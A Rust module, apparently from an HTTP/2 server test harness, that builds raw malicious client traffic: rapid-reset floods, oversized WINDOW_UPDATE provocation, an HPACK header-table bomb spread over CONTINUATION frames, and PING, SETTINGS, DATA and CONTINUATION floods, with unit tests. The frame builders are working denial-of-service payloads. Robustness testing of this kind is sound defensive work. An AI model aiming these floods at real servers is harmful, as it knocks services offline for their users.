// SPDX-License-Identifier: Apache-2.0
//! HTTP/2 as bytes, for clients that mean harm: no sane encoder writes this.

use super::Plan;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;
/// The newest entry of the dynamic table.
const NEWEST: u8 = 0x80 | 62;
/// Largest frame that every peer takes.
const FRAME_BYTES: usize = 16_000;

/// Appends the frames of one turn: how many turns were before is the second argument.
pub(super) type Make = Box<dyn FnMut(&mut Vec<u8>, u64)>;

/// What makes the frames of a flood, if there is such a flood.
pub(super) fn maker(plan: &Plan) -> Option<Make> {
    let (references, value) = (plan.references, "v".repeat(plan.value));
    Some(match plan.kind.as_str() {
        "resets" => Box::new(|out, number| {
            frame(out, HEADERS, END_HEADERS | END_STREAM, id(number), &request("GET", "/x/1"));
            frame(out, RST_STREAM, 0, id(number), &CANCEL.to_be_bytes());
        }),
        // A window of too much: the server itself must reset.
        "provoked" => Box::new(|out, number| {
            frame(out, HEADERS, END_HEADERS, id(number), &request("POST", "/x/1"));
            frame(out, WINDOW_UPDATE, 0, id(number), &i32::MAX.to_be_bytes());
        }),
        "bomb" => Box::new(move |out, number| bomb(out, number, references, &value)),
        "ping" => Box::new(|out, _| frame(out, PING, 0, 0, &[0; 8])),
        "settings" => Box::new(|out, _| frame(out, SETTINGS, 0, 0, &[])),
        "data" => Box::new(|out, number| match number {
            0 => frame(out, HEADERS, END_HEADERS, 1, &request("POST", "/x/1")),
            _ => frame(out, DATA, 0, 1, &[]),
        }),
        "continuation" => Box::new(|out, number| match number {
            0 => frame(out, HEADERS, 0, 1, &request("GET", "/x/1")),
            _ => frame(out, CONTINUATION, 0, 1, &[]),
        }),
        _ => return None,
    })
}

/// What a client says first.
pub(super) fn opening(plan: &Plan) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let window = if plan.kind == "bomb" { setting(INITIAL_WINDOW_SIZE, 0) } else { Vec::new() };
    frame(&mut out, SETTINGS, 0, 0, &window);
    out
}

/// A client's first bytes and a request, whose answer it gives no window.
pub(super) fn ask_without_window(path: &str) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 0));
    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, 1, &request("GET", path));
    out
}

/// A client's first bytes and as many requests as this.
pub(super) fn ask_for_many(requests: u64) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    for number in 0..requests {
        frame(&mut out, HEADERS, END_HEADERS | END_STREAM, id(number), &request("GET", "/x/100"));
    }
    out
}

/// Of the server's SETTINGS.
pub(super) fn acknowledgement() -> Vec<u8> {
    let mut out = Vec::new();
    frame(&mut out, SETTINGS, ACK, 0, &[]);
    out
}

/// A request whose header block names one large entry again and again, a byte each time; its answer, large too, is
/// given no window.
fn bomb(out: &mut Vec<u8>, number: u64, references: usize, value: &str) {
    let mut block = request("GET", "/x/16777216");
    block.push(0x40);
    string(&mut block, b"cookie");
    string(&mut block, value.as_bytes());
    block.resize(block.len() + references, NEWEST);
    frame(out, HEADERS, END_STREAM, id(number), &[]);
    let mut rest = block.chunks(FRAME_BYTES).peekable();
    while let Some(part) = rest.next() {
        let flags = if rest.peek().is_none() { END_HEADERS } else { 0 };
        frame(out, CONTINUATION, flags, id(number), part);
    }
}

fn id(number: u64) -> u32 {
    u32::try_from(number * 2 + 1).unwrap_or(u32::MAX) & 0x7fff_ffff
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, id: u32, payload: &[u8]) {
    out.extend_from_slice(&u32::try_from(payload.len()).unwrap_or(0).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(payload);
}

fn setting(id: u16, value: u32) -> Vec<u8> {
    [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

/// A request's pseudo-headers, each a literal that isn't indexed.
fn request(method: &str, path: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in [(":method", method), (":scheme", "http"), (":authority", "app"), (":path", path)] {
        out.push(0);
        string(&mut out, name.as_bytes());
        string(&mut out, value.as_bytes());
    }
    out
}

/// A string literal without Huffman's code (RFC 7541 5.2).
fn string(out: &mut Vec<u8>, text: &[u8]) {
    let mut rest = text.len();
    if rest < 127 {
        out.push(rest as u8);
    } else {
        out.push(127);
        rest -= 127;
        while rest >= 128 {
            out.push((rest % 128) as u8 | 0x80);
            rest /= 128;
        }
        out.push(rest as u8);
    }
    out.extend_from_slice(text);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strings_say_their_length() {
        let of = |length: usize| {
            let mut out = Vec::new();
            string(&mut out, &vec![b'v'; length]);
            out.truncate(out.len() - length);
            out
        };
        assert_eq!((of(126), of(127), of(1337)), (vec![126], vec![127, 0], vec![127, 0xba, 9]));
    }

    #[test]
    fn a_bomb_is_one_block_in_several_frames() {
        let mut out = Vec::new();
        bomb(&mut out, 1, 40_000, "v");
        let (mut kinds, mut rest) = (Vec::new(), &out[..]);
        while rest.len() > 9 {
            kinds.push((rest[3], rest[4]));
            rest = &rest[9 + (usize::from(rest[1]) << 8 | usize::from(rest[2]))..];
        }
        let whole = [(HEADERS, END_STREAM), (CONTINUATION, 0), (CONTINUATION, 0), (CONTINUATION, END_HEADERS)];
        assert_eq!(kinds, whole);
    }
}
